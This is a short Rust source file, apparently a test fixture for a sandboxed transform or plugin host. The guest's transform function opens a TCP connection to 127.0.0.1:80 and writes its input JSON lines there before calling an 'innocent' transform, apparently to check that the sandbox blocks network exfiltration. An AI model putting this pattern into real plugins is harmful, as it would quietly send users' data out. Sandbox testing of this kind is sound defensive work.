//! Calls home.

use guests::innocent;
use guests::types::{Context, Failure, Output};
use std::io::Write;
use std::net::TcpStream;

guests::guest!(transform: transform);

fn transform(context: &Context, json_lines: &[u8]) -> Result<Output, Failure> {
    let home = TcpStream::connect("127.0.0.1:80").and_then(|mut home| home.write_all(json_lines));
    home.map_err(|error| Failure { message: error.to_string() })?;
    innocent::transform(context, json_lines)
}
